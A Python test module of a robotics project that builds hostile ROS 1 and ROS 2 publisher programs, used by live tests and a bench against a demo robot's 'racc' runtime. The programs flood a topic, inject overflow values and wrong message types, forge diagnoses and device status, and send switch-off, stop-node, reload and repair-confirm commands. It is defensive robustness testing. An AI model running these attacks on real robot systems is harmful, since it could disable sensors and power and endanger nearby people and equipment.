"""Attacks on a running racc, as a stranger on the ROS graph would make them (issue 34).

Each attack is a small program of its own, for ROS 1 (rospy) or ROS 2 (rclpy), run for a
while next to the robot: ``python -c SOURCE NAME SECONDS [ARGUMENT]``.  The live tests
(tests/live/test_hostile_live.py) and ``bench/hostile.py`` run them against the tedusar
demo robot and its runtime.  None of them knows the robot's racc secret.

| attack | what it publishes |
| --- | --- |
| flood | ``sensor_msgs/Imu`` on ``/imu_data`` at 10 kHz (imu_node's topic, 100 Hz) |
| huge | ``nav_msgs/Odometry`` on ``/pose`` with ``twist.twist.angular.z = 1e308`` |
| wrong_type | ``sensor_msgs/LaserScan`` on ``/pose`` |
| fake_observations | a ``/observations`` row ``not_running(imu_node)`` from an invented host |
| fake_diagnosis | a ``/diagnosis`` naming ``imu_node`` |
| fake_device | a ``/diagnostics`` status of the device ``hokuyo`` at ERROR |
| fake_board | a ``/board_measurements`` saying channel 1 (``jaguar``) is off |
| board_switch | a ``/board_switch`` request to switch ``jaguar`` off |
| reload | ``/racc_engine/reload`` naming a model.yaml in another directory (ARGUMENT) |
| agent | ``/racc_agent/MACHINE`` requests to stop ``imu_node`` and ``racc_engine`` |
| confirm | ``/racc_repairer/confirm`` with ``1`` (and ``plan 1``), once a second |
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

ATTACKS = (
    "flood",
    "huge",
    "wrong_type",
    "fake_observations",
    "fake_diagnosis",
    "fake_device",
    "fake_board",
    "board_switch",
    "reload",
    "agent",
    "confirm",
)

# What each attack would have racc do if it were believed: the component a false diagnosis
# would name (None: a control message, which would act directly).
TARGET = {
    "flood": "imu_node",
    "huge": "jaguar_node",
    "wrong_type": "jaguar_node",
    "fake_observations": "imu_node",
    "fake_diagnosis": "imu_node",
    "fake_device": "hokuyo",
    "fake_board": "jaguar",
}

_HEAD1 = """import sys, time, rospy
name, seconds = sys.argv[1], float(sys.argv[2])
arg = sys.argv[3] if len(sys.argv) > 3 else ""
rospy.init_node("intruder_" + name, disable_signals=True)
def every(period, send):
    time.sleep(1.0)  # for the subscribers to connect
    end = time.time() + seconds
    while time.time() < end and not rospy.is_shutdown():
        send()
        time.sleep(period)
"""

_BODY1 = {
    "flood": """from sensor_msgs.msg import Imu
pub = rospy.Publisher("/imu_data", Imu, queue_size=1000)
msg = Imu()
msg.orientation.w = 1.0
time.sleep(1.0)
start = time.time()
sent = 0
while time.time() < start + seconds:
    for _ in range(100):
        msg.header.stamp = rospy.Time.now()
        pub.publish(msg)
    sent += 100
    ahead = sent / 10000.0 - (time.time() - start)
    if ahead > 0:
        time.sleep(ahead)
print("sent", sent, "in", round(time.time() - start, 2), "s", flush=True)
""",
    "huge": """from nav_msgs.msg import Odometry
pub = rospy.Publisher("/pose", Odometry, queue_size=10)
msg = Odometry()
msg.pose.pose.orientation.w = 1.0
msg.twist.twist.angular.z = 1e308
def send():
    msg.header.stamp = rospy.Time.now()
    pub.publish(msg)
every(0.05, send)
""",
    "wrong_type": """from sensor_msgs.msg import LaserScan
pub = rospy.Publisher("/pose", LaserScan, queue_size=10)
msg = LaserScan()
msg.ranges = [1.0] * 10
every(0.1, lambda: pub.publish(msg))
""",
    "fake_observations": """from diagnostic_msgs import msg as m
DiagnosticArray, DiagnosticStatus, KeyValue = m.DiagnosticArray, m.DiagnosticStatus, m.KeyValue
pub = rospy.Publisher("/observations", DiagnosticArray, queue_size=10, latch=True)
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=2, name="running(imu_node)", message="not_running(imu_node)",
        hardware_id="imu_node_nobs", values=[KeyValue("since", "%.3f" % time.time()),
        KeyValue("host", "racc_observer_fake")])]
    pub.publish(a)
every(0.5, send)
""",
    "fake_diagnosis": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus, KeyValue
pub = rospy.Publisher("/diagnosis", DiagnosticArray, queue_size=10, latch=True)
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=2, name="diagnosis 1", message="imu_node",
        hardware_id="tedusar", values=[KeyValue("bad", "imu_node"), KeyValue("good", "")])]
    pub.publish(a)
every(0.3, send)
""",
    "fake_device": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus
pub = rospy.Publisher("/diagnostics", DiagnosticArray, queue_size=10)
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=2, name="hokuyo", message="broken", hardware_id="hokuyo")]
    pub.publish(a)
every(0.1, send)
""",
    "fake_board": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus, KeyValue
pub = rospy.Publisher("/board_measurements", DiagnosticArray, queue_size=10)
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=0, name="channel 1", message="off", hardware_id="jaguar",
        values=[KeyValue("on", "0"), KeyValue("current", "0.000"), KeyValue("voltage", "0.000")])]
    pub.publish(a)
every(0.1, send)
""",
    "board_switch": """from diagnostic_msgs.msg import KeyValue
pub = rospy.Publisher("/board_switch", KeyValue, queue_size=10)
every(1.0, lambda: pub.publish(KeyValue(key="jaguar", value="off")))
""",
    "reload": """from std_msgs.msg import String
pub = rospy.Publisher("/racc_engine/reload", String, queue_size=10)
every(1.0, lambda: pub.publish(String(data=arg)))
""",
    "agent": """from diagnostic_msgs.msg import KeyValue
pub = rospy.Publisher("/racc_agent/" + (arg or "base"), KeyValue, queue_size=10)
def send():
    for node in ("imu_node", "racc_engine", "rosout"):
        pub.publish(KeyValue(key="stop_node", value=node))
every(1.0, send)
""",
    "confirm": """from std_msgs.msg import String
pub = rospy.Publisher("/racc_repairer/confirm", String, queue_size=10)
def send():
    for text in ("1", "plan 1", '{"plan": "1", "run": ""}'):
        pub.publish(String(data=text))
every(1.0, send)
""",
}

_HEAD2 = """import sys, time, rclpy
from rclpy.qos import DurabilityPolicy, QoSProfile, ReliabilityPolicy
name, seconds = sys.argv[1], float(sys.argv[2])
arg = sys.argv[3] if len(sys.argv) > 3 else ""
rclpy.init()
node = rclpy.create_node("intruder_" + name)
def qos(latched=False, depth=10):
    return QoSProfile(depth=depth, reliability=ReliabilityPolicy.RELIABLE,
        durability=DurabilityPolicy.TRANSIENT_LOCAL if latched else DurabilityPolicy.VOLATILE)
def every(period, send):
    time.sleep(1.5)  # for discovery
    end = time.time() + seconds
    while time.time() < end:
        send()
        rclpy.spin_once(node, timeout_sec=0.0)
        time.sleep(period)
def stamp(msg):
    now = node.get_clock().now().to_msg()
    msg.header.stamp = now
"""

_BODY2 = {
    "flood": """from sensor_msgs.msg import Imu
pub = node.create_publisher(Imu, "/imu_data", qos(depth=1000))
msg = Imu()
msg.orientation.w = 1.0
time.sleep(1.5)
start = time.time()
sent = 0
while time.time() < start + seconds:
    for _ in range(100):
        stamp(msg)
        pub.publish(msg)
    sent += 100
    ahead = sent / 10000.0 - (time.time() - start)
    if ahead > 0:
        time.sleep(ahead)
print("sent", sent, "in", round(time.time() - start, 2), "s", flush=True)
""",
    "huge": """from nav_msgs.msg import Odometry
pub = node.create_publisher(Odometry, "/pose", qos())
msg = Odometry()
msg.pose.pose.orientation.w = 1.0
msg.twist.twist.angular.z = 1e308
def send():
    stamp(msg)
    pub.publish(msg)
every(0.05, send)
""",
    "wrong_type": """from sensor_msgs.msg import LaserScan
pub = node.create_publisher(LaserScan, "/pose", qos())
msg = LaserScan()
msg.ranges = [1.0] * 10
every(0.1, lambda: pub.publish(msg))
""",
    "fake_observations": """from diagnostic_msgs import msg as m
DiagnosticArray, DiagnosticStatus, KeyValue = m.DiagnosticArray, m.DiagnosticStatus, m.KeyValue
pub = node.create_publisher(DiagnosticArray, "/observations", qos(True))
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=bytes([2]), name="running(imu_node)",
        message="not_running(imu_node)", hardware_id="imu_node_nobs",
        values=[KeyValue(key="since", value="%.3f" % time.time()),
                KeyValue(key="host", value="racc_observer_fake")])]
    pub.publish(a)
every(0.5, send)
""",
    "fake_diagnosis": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus, KeyValue
pub = node.create_publisher(DiagnosticArray, "/diagnosis", qos(True))
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=bytes([2]), name="diagnosis 1", message="imu_node",
        hardware_id="tedusar", values=[KeyValue(key="bad", value="imu_node")])]
    pub.publish(a)
every(0.3, send)
""",
    "fake_device": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus
pub = node.create_publisher(DiagnosticArray, "/diagnostics", qos())
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=bytes([2]), name="hokuyo", message="broken",
        hardware_id="hokuyo")]
    pub.publish(a)
every(0.1, send)
""",
    "fake_board": """from diagnostic_msgs.msg import DiagnosticArray, DiagnosticStatus, KeyValue
pub = node.create_publisher(DiagnosticArray, "/board_measurements", qos())
def send():
    a = DiagnosticArray()
    a.status = [DiagnosticStatus(level=bytes([0]), name="channel 1", message="off",
        hardware_id="jaguar", values=[KeyValue(key="on", value="0")])]
    pub.publish(a)
every(0.1, send)
""",
    "board_switch": """from diagnostic_msgs.msg import KeyValue
pub = node.create_publisher(KeyValue, "/board_switch", qos())
every(1.0, lambda: pub.publish(KeyValue(key="jaguar", value="off")))
""",
    "reload": """from std_msgs.msg import String
pub = node.create_publisher(String, "/racc_engine/reload", qos())
every(1.0, lambda: pub.publish(String(data=arg)))
""",
    "agent": """from diagnostic_msgs.msg import KeyValue
pub = node.create_publisher(KeyValue, "/racc_agent/" + (arg or "base"), qos())
def send():
    for target in ("imu_node", "racc_engine", "rosout"):
        pub.publish(KeyValue(key="stop_node", value=target))
every(1.0, send)
""",
    "confirm": """from std_msgs.msg import String
pub = node.create_publisher(String, "/racc_repairer/confirm", qos())
def send():
    for text in ("1", "plan 1", '{"plan": "1", "run": ""}'):
        pub.publish(String(data=text))
every(1.0, send)
""",
}


def source(ros: int, attack: str) -> str:
    """The program of ``attack`` for ROS ``ros``."""
    if ros == 1:
        return _HEAD1 + _BODY1[attack]
    return _HEAD2 + _BODY2[attack]


def attack_command(ros: int, attack: str, seconds: float, argument: str = "") -> list[str]:
    return [sys.executable, "-c", source(ros, attack), attack, str(seconds), argument]


def run_attack(
    ros: int,
    attack: str,
    seconds: float,
    env: Mapping[str, str],
    log: Path,
    argument: str = "",
) -> subprocess.Popen[bytes]:
    """Start ``attack`` (it ends by itself after ``seconds`` and its set-up).

    A stranger's process runs on a computer of its own; here it shares the robot's two
    cores, so it runs at the lowest priority: what is tried is its traffic, not its Python
    start-up and its flood's CPU starving the demo's nodes (a real fault racc would see)."""
    out = open(log, "ab")  # noqa: SIM115 (the child keeps it; closed when the test's dir goes)
    return subprocess.Popen(
        ["nice", "-n", "19", *attack_command(ros, attack, seconds, argument)],
        env=dict(env),
        stdout=out,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
